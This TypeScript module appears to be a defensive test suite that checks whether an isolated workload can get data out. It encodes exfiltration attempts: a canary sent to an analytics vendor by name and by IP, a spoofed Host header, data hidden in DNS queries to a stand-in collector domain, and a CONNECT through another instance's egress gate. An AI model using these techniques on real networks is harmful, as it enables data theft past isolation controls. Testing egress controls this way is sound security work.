/** Break-ins that leave the network of the workloads. */
import { publicAddressOf } from "../../local/front/network/addresses";
import type { AttackContext, BreakIn } from "./breakIn";
import { judge, type Verdict } from "./verdict";
import { parseAnswer, sendRequest, straightTo } from "./wire";

const vendorHost = "api.mixpanel.com";

export const networkBreakIns: readonly BreakIn[] = [
  {
    id: "vendor-by-name",
    title: "sends analytics straight to the vendor, by name",
    expected: "DNS response policy",
    attempt: async ({ attacker, canary }) =>
      judge(await sendRequest(attacker.intruder, { url: `https://${vendorHost}/track?data=${canary}` })),
  },
  {
    id: "vendor-by-address",
    title: "sends analytics straight to the vendor, by address",
    expected: "VPC route",
    attempt: async ({ attacker, canary }) =>
      judge(
        await sendRequest(attacker.intruder, {
          url: `https://${publicAddressOf(vendorHost)}/track?data=${canary}`,
          host: vendorHost,
        }),
      ),
  },
  {
    id: "vendor-behind-google",
    title: "asks Google's address for the vendor's host",
    expected: "Google Front End",
    attempt: async ({ attacker, canary }) => {
      const result = await sendRequest(attacker.intruder, {
        url: `https://storage.googleapis.com/track?data=${canary}`,
        host: vendorHost,
      });
      // Google serves no host that isn't its own: there is nothing behind it to get to.
      return "response" in result && result.response.status === 404
        ? { denied: true, wall: "Google Front End", because: "Google's address serves Google's hosts only" }
        : judge(result);
    },
  },
  {
    id: "names-as-messages",
    title: "hides data in a DNS query",
    expected: "DNS response policy",
    attempt: async ({ attacker, canary }) => {
      const { text, error } = await attacker.intruder.lookUp(`${canary}.collector.example`);
      if (text !== undefined && text === publicAddressOf(`${canary}.collector.example`)) {
        return { denied: false, because: "a public name server was asked" };
      }
      return {
        denied: true,
        wall: "DNS response policy",
        because: error ? error.message : `the look-up ends in the sinkhole, ${text}`,
      };
    },
  },
  {
    id: "gate-from-outside",
    title: "leaves by the other's egress network, from outside",
    expected: "instance boundary",
    possible: () => process.platform === "linux",
    attempt: async (context) => throughEgressNetwork(context),
  },
];

async function throughEgressNetwork({ running, victim }: AttackContext): Promise<Verdict> {
  const { networkGate } = running.networkOf(victim.proxy.name);
  const bytes = Buffer.from(`CONNECT ${vendorHost}:443 HTTP/1.1\r\nHost: ${vendorHost}:443\r\n\r\n`);
  const { text = "" } = await straightTo(networkGate).send({ host: "", port: networkGate, secure: false, bytes });
  const { status, headers } = parseAnswer(text);
  const [refusal] = JSON.parse(decodeURIComponent(headers["bulkhead-refusals"] ?? "%5B%5D"));
  return status === 403 && refusal
    ? { denied: true, ...refusal }
    : { denied: false, because: `the network gate answered ${status}` };
}
